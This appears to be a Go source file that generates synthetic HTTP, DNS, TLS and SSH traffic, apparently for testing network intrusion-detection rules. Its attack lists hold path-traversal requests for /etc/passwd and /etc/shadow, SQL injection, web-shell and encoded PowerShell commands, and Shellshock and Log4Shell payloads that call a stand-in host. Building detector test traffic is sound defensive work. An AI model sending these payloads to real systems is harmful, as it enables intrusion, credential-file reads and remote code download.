package gen

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"strings"
)

// Names, paths and agents the sessions draw from.
var (
	domains = []string{
		"www.example.com", "api.example.net", "cdn.example.org", "mail.example.com",
		"static.shop.example", "login.example.net", "news.example.org", "img.example.com",
		"updates.vendor.example", "telemetry.vendor.example", "docs.example.io", "git.example.io",
		"video.example.tv", "ads.tracker.example", "www.bank.example", "portal.corp.example",
	}
	paths = []string{
		"/", "/index.html", "/about", "/products/item", "/search", "/api/v1/users",
		"/api/v2/orders", "/static/js/app.js", "/static/css/site.css", "/images/logo.png",
		"/news/article", "/login", "/account/settings", "/favicon.ico", "/feed.xml",
		"/wp-content/uploads/photo.jpg", "/download/setup.exe", "/graphql", "/health",
	}
	agents = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
		"Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
		"curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1",
	}
	servers = []string{"nginx/1.24.0", "Apache/2.4.58 (Ubuntu)", "cloudflare", "Microsoft-IIS/10.0", "gws"}
	words   = strings.Fields(`the network packet sensor alert rule flow stream capture frame header
		payload server client request response session protocol window segment record buffer
		traffic analysis report policy access login account order product search result page
		article news update download service health status metric event message content`)
	// attacks are request lines, user agents and headers typical rules
	// look for; each attack request is one hit packet.
	attackURIs = []string{
		"/cgi-bin/../../../../etc/passwd",
		"/index.php?page=../../../../etc/passwd",
		"/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir",
		"/shell.php?cmd=/bin/sh+-c+id",
		"/search?q=%27%20union%20select%20username,password%20from%20users--",
		"/download?file=..%2f..%2f..%2fetc%2fshadow",
		"/api/run?exec=powershell+-enc+SQBFAFgA",
	}
	attackAgents = []string{
		"sqlmap/1.7.2#stable (https://sqlmap.org)",
		"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
		"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
		"() { :;}; /bin/bash -c \"wget http://198.51.100.7/x\"",
		"${jndi:ldap://198.51.100.7:1389/a}",
	}
)

// text is deterministic HTML-like filler shared by all generators; blob is
// pseudo-random bytes standing for encrypted or compressed data. Both are
// read only.
var text, blob = makeText(), makeBlob()

func makeText() []byte {
	rng := rand.New(rand.NewPCG(1, 2))
	var b strings.Builder
	for b.Len() < 96<<10 {
		b.WriteString("<p>")
		for i, n := 0, 8+rng.IntN(40); i < n; i++ {
			if i > 0 {
				b.WriteByte(' ')
			}
			b.WriteString(words[rng.IntN(len(words))])
		}
		b.WriteString(".</p>\n")
	}
	return []byte(b.String())
}

func makeBlob() []byte {
	rng := rand.New(rand.NewPCG(3, 4))
	b := make([]byte, 96<<10)
	for i := 0; i+8 <= len(b); i += 8 {
		binary.LittleEndian.PutUint64(b[i:], rng.Uint64())
	}
	return b
}

// pick returns a random element of s.
func pick[T any](rng *rand.Rand, s []T) T { return s[rng.IntN(len(s))] }

// bodySize draws a response body size: mostly small, a long tail up to
// 64 KiB.
func bodySize(rng *rand.Rand) int {
	switch k := rng.IntN(100); {
	case k < 40:
		return 100 + rng.IntN(1200)
	case k < 75:
		return 1300 + rng.IntN(6000)
	case k < 95:
		return 7000 + rng.IntN(25000)
	default:
		return 32000 + rng.IntN(32000)
	}
}

// httpRequest returns a request and whether it carries attack content.
func httpRequest(rng *rand.Rand, host string, attack bool) []byte {
	method, path, agent := "GET", pick(rng, paths), pick(rng, agents)
	if rng.IntN(4) == 0 {
		path += fmt.Sprintf("?id=%d&ref=%s", rng.IntN(100000), pick(rng, words))
	}
	var body string
	if rng.IntN(8) == 0 {
		method = "POST"
		body = fmt.Sprintf("user=%s&token=%08x&q=%s", pick(rng, words), rng.Uint32(), pick(rng, words))
	}
	if attack {
		switch rng.IntN(3) {
		case 0:
			path = pick(rng, attackURIs)
		case 1:
			agent = pick(rng, attackAgents)
		default:
			path = pick(rng, attackURIs)
			agent = pick(rng, attackAgents)
		}
	}
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\n", method, path, host, agent)
	b.WriteString("Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n")
	b.WriteString("Accept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate, br\r\n")
	if rng.IntN(2) == 0 {
		fmt.Fprintf(&b, "Cookie: session=%016x; theme=%s\r\n", rng.Uint64(), pick(rng, words))
	}
	if body != "" {
		fmt.Fprintf(&b, "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n", len(body))
	}
	b.WriteString("Connection: keep-alive\r\n\r\n")
	b.WriteString(body)
	return []byte(b.String())
}

// httpResponse returns a response: headers and a body of realistic size.
func httpResponse(rng *rand.Rand) []byte {
	var body []byte
	status, ctype := "200 OK", "text/html; charset=utf-8"
	switch k := rng.IntN(20); {
	case k == 0:
		status = "304 Not Modified"
	case k == 1:
		status = "404 Not Found"
		body = []byte("<html><head><title>404 Not Found</title></head><body><h1>Not Found</h1></body></html>\n")
	case k < 6:
		ctype = "application/octet-stream"
		n := bodySize(rng)
		off := rng.IntN(len(blob) - n)
		body = blob[off : off+n : off+n]
	case k < 9:
		ctype = "application/json"
		body = fmt.Appendf(nil, `{"id":%d,"status":%q,"items":[`, rng.IntN(1e6), pick(rng, words))
		for i, n := 0, 1+rng.IntN(30); i < n; i++ {
			if i > 0 {
				body = append(body, ',')
			}
			body = fmt.Appendf(body, `{"name":%q,"value":%d}`, pick(rng, words), rng.IntN(1e4))
		}
		body = append(body, "]}\n"...)
	default:
		n := bodySize(rng)
		off := rng.IntN(len(text) - n)
		body = append([]byte("<!DOCTYPE html>\n<html><head><title>"+pick(rng, words)+"</title></head><body>\n"), text[off:off+n]...)
		body = append(body, "</body></html>\n"...)
	}
	var b strings.Builder
	fmt.Fprintf(&b, "HTTP/1.1 %s\r\nServer: %s\r\nDate: Thu, 01 Jan 2026 00:00:00 GMT\r\n", status, pick(rng, servers))
	if status != "304 Not Modified" {
		fmt.Fprintf(&b, "Content-Type: %s\r\nContent-Length: %d\r\n", ctype, len(body))
	}
	b.WriteString("Cache-Control: max-age=3600\r\nConnection: keep-alive\r\n\r\n")
	return append([]byte(b.String()), body...)
}

// httpError returns the short refusal a server gives an attack request.
func httpError(rng *rand.Rand) []byte {
	status := pick(rng, []string{"404 Not Found", "403 Forbidden", "400 Bad Request"})
	body := "<html><head><title>" + status + "</title></head><body><h1>" + status[4:] + "</h1></body></html>\n"
	return fmt.Appendf(nil, "HTTP/1.1 %s\r\nServer: %s\r\nContent-Type: text/html\r\nContent-Length: %d\r\nConnection: keep-alive\r\n\r\n%s",
		status, pick(rng, servers), len(body), body)
}

// dnsName appends name in DNS label encoding.
func dnsName(b []byte, name string) []byte {
	for _, l := range strings.Split(name, ".") {
		b = append(b, byte(len(l)))
		b = append(b, l...)
	}
	return append(b, 0)
}

// dnsPair returns a query and its answer (A or AAAA, sometimes NXDOMAIN).
func dnsPair(rng *rand.Rand) (query, answer []byte) {
	id := uint16(rng.Uint32())
	name := pick(rng, domains)
	if rng.IntN(10) == 0 {
		name = fmt.Sprintf("%s%d.%s", pick(rng, words), rng.IntN(100), name)
	}
	qtype := uint16(1)
	if rng.IntN(3) == 0 {
		qtype = 28
	}
	q := binary.BigEndian.AppendUint16(nil, id)
	q = append(q, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0)
	q = dnsName(q, name)
	q = binary.BigEndian.AppendUint16(q, qtype)
	q = append(q, 0, 1)

	a := binary.BigEndian.AppendUint16(nil, id)
	nx := rng.IntN(12) == 0
	n := 1 + rng.IntN(3)
	if nx {
		a = append(a, 0x81, 0x83, 0, 1, 0, 0, 0, 0, 0, 0)
	} else {
		a = append(a, 0x81, 0x80, 0, 1, 0, byte(n), 0, 0, 0, 0)
	}
	a = append(a, q[12:]...)
	if !nx {
		for i := 0; i < n; i++ {
			a = append(a, 0xc0, 0x0c)
			a = binary.BigEndian.AppendUint16(a, qtype)
			a = append(a, 0, 1)
			a = binary.BigEndian.AppendUint32(a, uint32(60+rng.IntN(3600)))
			if qtype == 1 {
				a = append(a, 0, 4, 93, 184, byte(rng.IntN(256)), byte(1+rng.IntN(254)))
			} else {
				a = append(a, 0, 16, 0x26, 0x06, 0x47, 0x00)
				a = binary.BigEndian.AppendUint64(a, rng.Uint64())
				a = binary.BigEndian.AppendUint32(a, rng.Uint32())
			}
		}
	}
	return q, a
}

// tlsRecord wraps body in a TLS record of content type ct.
func tlsRecord(ct byte, version uint16, body []byte) []byte {
	b := []byte{ct}
	b = binary.BigEndian.AppendUint16(b, version)
	b = binary.BigEndian.AppendUint16(b, uint16(len(body)))
	return append(b, body...)
}

// handshake wraps body in a handshake message of type t.
func handshake(t byte, body []byte) []byte {
	n := len(body)
	return append([]byte{t, byte(n >> 16), byte(n >> 8), byte(n)}, body...)
}

// ext appends a TLS extension.
func ext(b []byte, typ uint16, data []byte) []byte {
	b = binary.BigEndian.AppendUint16(b, typ)
	b = binary.BigEndian.AppendUint16(b, uint16(len(data)))
	return append(b, data...)
}

// clientHello returns a TLS 1.3 ClientHello record carrying SNI host.
func clientHello(rng *rand.Rand, host string) []byte {
	b := []byte{3, 3}
	off := rng.IntN(len(blob) - 64)
	b = append(b, blob[off:off+32]...) // random
	b = append(b, 32)
	b = append(b, blob[off+32:off+64]...) // session id
	suites := []uint16{0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f, 0xc02c, 0xc030, 0xcca9, 0xcca8, 0xc013, 0xc014, 0x009c, 0x009d, 0x002f, 0x0035}
	b = binary.BigEndian.AppendUint16(b, uint16(2*len(suites)))
	for _, s := range suites {
		b = binary.BigEndian.AppendUint16(b, s)
	}
	b = append(b, 1, 0) // compression: null

	var e []byte
	sni := binary.BigEndian.AppendUint16(nil, uint16(len(host)+3))
	sni = append(sni, 0)
	sni = binary.BigEndian.AppendUint16(sni, uint16(len(host)))
	sni = append(sni, host...)
	e = ext(e, 0x0000, sni)
	e = ext(e, 0x0017, nil)                                              // extended master secret
	e = ext(e, 0xff01, []byte{0})                                        // renegotiation info
	e = ext(e, 0x000a, []byte{0, 8, 0, 0x1d, 0, 0x17, 0, 0x18, 0, 0x19}) // groups
	e = ext(e, 0x000b, []byte{1, 0})                                     // ec point formats
	e = ext(e, 0x0023, nil)                                              // session ticket
	e = ext(e, 0x0010, []byte{0, 12, 2, 'h', '2', 8, 'h', 't', 't', 'p', '/', '1', '.', '1'})
	e = ext(e, 0x000d, []byte{0, 8, 4, 3, 8, 4, 4, 1, 5, 1}) // signature algorithms
	ks := []byte{0, 36, 0, 0x1d, 0, 32}
	ks = append(ks, blob[off+16:off+48]...)
	e = ext(e, 0x0033, ks)                    // key share
	e = ext(e, 0x002d, []byte{1, 1})          // psk key exchange modes
	e = ext(e, 0x002b, []byte{4, 3, 4, 3, 3}) // supported versions
	b = binary.BigEndian.AppendUint16(b, uint16(len(e)))
	b = append(b, e...)
	return tlsRecord(22, 0x0301, handshake(1, b))
}

// serverHello returns a TLS 1.3 ServerHello record and a ChangeCipherSpec.
func serverHello(rng *rand.Rand) []byte {
	off := rng.IntN(len(blob) - 96)
	b := []byte{3, 3}
	b = append(b, blob[off:off+32]...)
	b = append(b, 32)
	b = append(b, blob[off+32:off+64]...)
	b = append(b, 0x13, 0x01, 0)
	var e []byte
	e = ext(e, 0x002b, []byte{3, 4})
	ks := []byte{0, 0x1d, 0, 32}
	ks = append(ks, blob[off+64:off+96]...)
	e = ext(e, 0x0033, ks)
	b = binary.BigEndian.AppendUint16(b, uint16(len(e)))
	b = append(b, e...)
	out := tlsRecord(22, 0x0303, handshake(2, b))
	return append(out, tlsRecord(20, 0x0303, []byte{1})...)
}

// appData returns an encrypted-looking TLS application data record whose
// total size is n (n > 5).
func appData(rng *rand.Rand, n int) []byte {
	off := rng.IntN(len(blob) - n)
	return tlsRecord(23, 0x0303, blob[off:off+n-5])
}

// sshBanners are server and client identification strings.
var (
	sshServerBanners = []string{"SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.5", "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10", "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3", "SSH-2.0-dropbear_2022.83"}
	sshClientBanners = []string{"SSH-2.0-OpenSSH_9.6", "SSH-2.0-PuTTY_Release_0.81", "SSH-2.0-Go", "SSH-2.0-libssh2_1.11.0"}
)

// kexInit returns an SSH_MSG_KEXINIT binary packet (no encryption yet).
func kexInit(rng *rand.Rand) []byte {
	p := []byte{20}
	off := rng.IntN(len(blob) - 16)
	p = append(p, blob[off:off+16]...) // cookie
	lists := []string{
		"curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,diffie-hellman-group14-sha256",
		"ssh-ed25519,ecdsa-sha2-nistp256,rsa-sha2-512,rsa-sha2-256",
		"chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com",
		"chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com",
		"umac-64-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-256,hmac-sha1",
		"umac-64-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-256,hmac-sha1",
		"none,zlib@openssh.com", "none,zlib@openssh.com", "", "",
	}
	for _, l := range lists {
		p = binary.BigEndian.AppendUint32(p, uint32(len(l)))
		p = append(p, l...)
	}
	p = append(p, 0, 0, 0, 0, 0) // first_kex_packet_follows, reserved
	pad := 8 - (4+1+len(p))%8
	if pad < 4 {
		pad += 8
	}
	b := binary.BigEndian.AppendUint32(nil, uint32(1+len(p)+pad))
	b = append(b, byte(pad))
	b = append(b, p...)
	return append(b, make([]byte, pad)...)
}
